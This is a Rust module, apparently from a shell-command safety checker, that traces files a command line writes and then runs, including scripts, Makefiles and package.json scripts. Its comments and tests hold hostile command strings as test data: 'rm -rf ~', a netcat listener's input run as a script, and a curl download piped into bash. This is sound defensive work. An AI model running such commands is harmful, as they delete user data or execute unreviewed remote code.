//! Files a line writes and then runs: judged by the text the line wrote when it shows it,
//! warned when it does not.
//!
//! Why: `echo 'rm -rf ~' > x.sh; sh x.sh` runs what the line shows, only one step removed;
//! so do `sh < x.sh`, `python3 x.py` after `echo CODE > x.py`, and `make` after the line
//! wrote the Makefile. And a file written with text the line does not show — a download, a
//! listener's input, a generator's output (`nc -l 9 > f; sh f`, `curl … > x.sh; bash x.sh`)
//! — run as a script runs code nobody has read.

use std::collections::{HashMap, HashSet};

use crate::getopt::option_value_anywhere;
use crate::lex::Simple;
use crate::printed::literal_output;
use crate::wrappers::{basename, is_shell};

/// What running a file this line wrote runs.
#[derive(Debug, PartialEq)]
pub enum Ran {
    /// Shell lines (a script, a batch file, a Makefile's recipes): judged as a line.
    Lines(String),
    /// An interpreter's program: judged as that interpreter's code fed on its input.
    Code { interpreter: String, text: String },
    /// A file written with text the line does not show.
    Unshown(String),
}

/// The files a line writes, by name (`./x.sh` and `x.sh` are one file).
#[derive(Debug, Default)]
pub struct Written {
    shown: HashMap<String, String>,
    unshown: HashSet<String>,
}

impl Written {
    /// Every file the line's commands write with text the line does not show, wherever it
    /// stands in the line (`sh < f & nc -l 9 > f` runs the listener's input).
    pub fn new(commands: &[Simple]) -> Written {
        let mut unshown = HashSet::new();
        for c in commands {
            if c.argv.is_empty() || literal_output(c).is_some() {
                continue;
            }
            for target in c.redirects.iter().chain(&written_by_options(&c.argv)) {
                unshown.insert(script_name(target).to_string());
            }
        }
        Written {
            shown: HashMap::new(),
            unshown,
        }
    }

    /// What `c` writes with text it shows, kept for the commands after it.
    pub fn record(&mut self, c: &Simple) {
        let text = if c.argv.is_empty() {
            // `> f` empties the file.
            Some(String::new())
        } else {
            literal_output(c)
        };
        let Some(text) = text else {
            return;
        };
        let tee = basename(&c.argv.first().cloned().unwrap_or_default()) == "tee";
        let operands = c.argv.iter().skip(1).filter(|a| tee && !a.starts_with('-'));
        for r in c.redirects.iter().chain(operands) {
            let kept = self.shown.entry(script_name(r).to_string()).or_default();
            kept.push_str(&text);
            // Kept as lines: what a printf without a newline wrote ends one all the same.
            if !kept.ends_with('\n') {
                kept.push('\n');
            }
        }
    }

    /// What `argv` (with its input redirected from `reads`) runs of a file this line wrote.
    pub fn runs(&self, argv: &[String], reads: &[String]) -> Option<Ran> {
        let first = argv.first()?;
        let name = basename(first);
        let by_path = first.contains('/') || first.contains('\\') || windows_script(first);
        let script = if by_path {
            Some(first.as_str())
        } else {
            let operand = argv[1..].iter().find(|a| !a.starts_with('-'));
            if is_shell(&name) || matches!(&*name, "source" | ".") {
                // A shell's script is its operand, else its input (`sh < x.sh`).
                operand.or_else(|| reads.first()).map(String::as_str)
            } else if crate::inline::is_interpreter(&name) && !code_inline(&argv[1..]) {
                operand.map(String::as_str)
            } else if matches!(&*name, "make" | "gmake") {
                return self.makefile(argv);
            } else if matches!(&*name, "npm" | "yarn" | "pnpm" | "bun") {
                return self.package_scripts();
            } else {
                None
            }
        }?;
        let key = script_name(script);
        match self.shown.get(key) {
            Some(text) if !by_path && !is_shell(&name) && name != "source" && name != "." => {
                Some(Ran::Code {
                    interpreter: name.into_owned(),
                    text: text.clone(),
                })
            }
            Some(text) => Some(Ran::Lines(text.clone())),
            None if self.unshown.contains(key) => Some(Ran::Unshown(script.to_string())),
            None => None,
        }
    }

    /// make's recipes, when the Makefile it reads (`-f FILE`, or the names make looks
    /// for) is one the line wrote: each recipe line is a shell line.
    fn makefile(&self, argv: &[String]) -> Option<Ran> {
        let named = argv.iter().enumerate().find_map(|(i, a)| match a.as_str() {
            "-f" | "--file" | "--makefile" => argv.get(i + 1).map(String::as_str),
            _ => a
                .strip_prefix("--file=")
                .or_else(|| a.strip_prefix("--makefile="))
                .or_else(|| a.strip_prefix("-f").filter(|v| !v.is_empty())),
        });
        let names: Vec<&str> = match named {
            Some(n) => vec![script_name(n)],
            None => vec!["GNUmakefile", "makefile", "Makefile"],
        };
        for n in names {
            if let Some(text) = self.shown.get(n) {
                return Some(Ran::Lines(recipes(text)));
            }
            if self.unshown.contains(n) {
                return Some(Ran::Unshown(n.to_string()));
            }
        }
        None
    }
}

impl Written {
    /// A package manager runs the scripts of the `package.json` it finds (`npm run x`,
    /// `npm test`, `npm install`'s hooks): each script of one the line wrote is a line.
    fn package_scripts(&self) -> Option<Ran> {
        if self.unshown.contains("package.json") {
            return Some(Ran::Unshown("package.json".into()));
        }
        let text = self.shown.get("package.json")?;
        let Ok(json) = serde_json::from_str::<serde_json::Value>(text) else {
            // Not JSON as written: npm refuses it, and runs nothing.
            return None;
        };
        let scripts = json.get("scripts")?.as_object()?;
        let lines: Vec<&str> = scripts.values().filter_map(|v| v.as_str()).collect();
        Some(Ran::Lines(lines.join("\n")))
    }
}

/// A Makefile's recipe lines: those after a tab, and those after a rule's `;`, with the
/// prefixes make strips (`@`, `-`, `+`).
fn recipes(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines() {
        let recipe = if let Some(r) = line.strip_prefix('\t') {
            Some(r)
        } else if line.contains(':') && !line.trim_start().starts_with('#') {
            line.split_once(';').map(|(_, r)| r)
        } else {
            None
        };
        if let Some(r) = recipe {
            out.push_str(r.trim_start().trim_start_matches(['@', '-', '+']));
            out.push('\n');
        }
    }
    out
}

/// Files a command writes through its options rather than a redirection: `tee FILE`,
/// `curl -o FILE`, `wget -O FILE`.
fn written_by_options(argv: &[String]) -> Vec<String> {
    let name = basename(&argv[0]);
    let rest = &argv[1..];
    match &*name {
        "tee" => rest
            .iter()
            .filter(|a| !a.starts_with('-'))
            .cloned()
            .collect(),
        // Edited in place: what the file holds after is not on the line.
        "sed" | "gsed" | "perl"
            if rest.iter().any(|a| {
                a.starts_with("-i") || a.starts_with("--in-place") || a.starts_with("-pi")
            }) =>
        {
            in_place_files(rest)
        }
        "curl" => option_value_anywhere(rest, 'o', "output")
            .into_iter()
            .collect(),
        "wget" => option_value_anywhere(rest, 'O', "output-document")
            .into_iter()
            .collect(),
        _ => Vec::new(),
    }
}

/// The files `sed -i`/`perl -pi` edit: their operands, past the script (given by `-e`/`-f`
/// and their values, else the first operand).
fn in_place_files(rest: &[String]) -> Vec<String> {
    let mut files = Vec::new();
    let mut script_given = false;
    let mut skip_next = false;
    for a in rest {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        if matches!(a.as_str(), "-e" | "-f" | "--expression" | "--file")
            || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('e'))
        {
            script_given = true;
            skip_next = true;
        } else if a.starts_with("--expression=") || a.starts_with("--file=") {
            script_given = true;
        } else if !a.starts_with('-') {
            files.push(a.clone());
        }
    }
    if !script_given && !files.is_empty() {
        files.remove(0);
    }
    files
}

/// Whether an interpreter's arguments give it its code inline (`-c`, `-e`, `-pe`, `-r`):
/// then no operand is its script.
fn code_inline(args: &[String]) -> bool {
    args.iter().any(|a| {
        a.starts_with('-') && !a.starts_with("--") && a[1..].contains(['c', 'e', 'E', 'r'])
            || matches!(a.as_str(), "--eval" | "--print")
    })
}

/// A file's name as a script is named: `./x.sh` and `x.sh` are one file.
fn script_name(word: &str) -> &str {
    word.strip_prefix("./")
        .or_else(|| word.strip_prefix(".\\"))
        .unwrap_or(word)
}

/// Whether a program word names a script Windows runs by its name alone, from the working
/// directory (`x.bat`, `x.cmd`, `x.ps1`).
pub fn windows_script(word: &str) -> bool {
    let w = word.to_ascii_lowercase();
    [".bat", ".cmd", ".ps1"].iter().any(|e| w.ends_with(e))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(line: &str) -> (Written, Vec<Simple>) {
        let commands = crate::lex::parse(line).commands;
        let mut w = Written::new(&commands);
        for c in &commands {
            w.record(c);
        }
        (w, commands)
    }

    #[test]
    fn a_script_is_run_by_its_path_its_shell_its_input_or_its_interpreter() {
        let (w, c) = written("echo 'rm -rf ~' > x.sh; sh < x.sh");
        assert_eq!(
            w.runs(&c[1].argv, &c[1].reads),
            Some(Ran::Lines("rm -rf ~\n".into()))
        );
        let (w, c) = written("echo 'import os' > x.py; python3 x.py");
        assert!(matches!(
            w.runs(&c[1].argv, &c[1].reads),
            Some(Ran::Code { .. })
        ));
    }

    #[test]
    fn a_file_written_with_unshown_text_is_named() {
        let (w, c) = written("sh f & nc -l 9 > f");
        assert_eq!(
            w.runs(&c[0].argv, &c[0].reads),
            Some(Ran::Unshown("f".into()))
        );
        let (w, c) = written("curl -so x.sh http://x; bash x.sh");
        assert_eq!(
            w.runs(&c[1].argv, &c[1].reads),
            Some(Ran::Unshown("x.sh".into()))
        );
    }

    #[test]
    fn a_heredoc_written_is_shown() {
        let (w, c) = written("cat > x.sh <<'EOF'\nrm -rf ~\nEOF\nsh x.sh");
        let last = c.last().expect("commands");
        assert!(
            matches!(w.runs(&last.argv, &last.reads), Some(Ran::Lines(t)) if t.contains("rm -rf ~"))
        );
        let (w, c) = written("tee x.sh <<< 'rm -rf ~' >/dev/null; sh x.sh");
        assert!(
            matches!(w.runs(&c[1].argv, &c[1].reads), Some(Ran::Lines(t)) if t.contains("rm -rf ~"))
        );
    }

    #[test]
    fn an_edit_in_place_writes_its_files_not_its_script() {
        assert_eq!(
            in_place_files(&["-pi".into(), "-e".into(), "s/a/b/".into(), "f".into()]),
            vec!["f"]
        );
        assert_eq!(
            in_place_files(&["-i".into(), "s/a/b/".into(), "f".into()]),
            vec!["f"]
        );
        assert_eq!(
            in_place_files(&["-pie".into(), "s/a/b/".into(), "f".into()]),
            vec!["f"]
        );
    }

    #[test]
    fn package_scripts_are_lines() {
        let (w, c) = written(r#"echo '{"scripts":{"x":"rm -rf ~"}}' > package.json; npm run x"#);
        assert_eq!(
            w.runs(&c[1].argv, &c[1].reads),
            Some(Ran::Lines("rm -rf ~".into()))
        );
        let (w, c) = written("sed -i 's/^/x;/' run.sh && ./run.sh");
        assert_eq!(
            w.runs(&c[1].argv, &c[1].reads),
            Some(Ran::Unshown("./run.sh".into()))
        );
    }

    #[test]
    fn makefile_recipes_are_lines() {
        assert_eq!(
            recipes("all:\n\t@rm -rf ~\nx: y; ls\n# a: b; c\n"),
            "rm -rf ~\nls\n"
        );
        let (w, c) = written("echo 'all:; rm -rf ~' > Makefile && make");
        assert_eq!(
            w.runs(&c[1].argv, &c[1].reads),
            Some(Ran::Lines("rm -rf ~\n".into()))
        );
    }
}
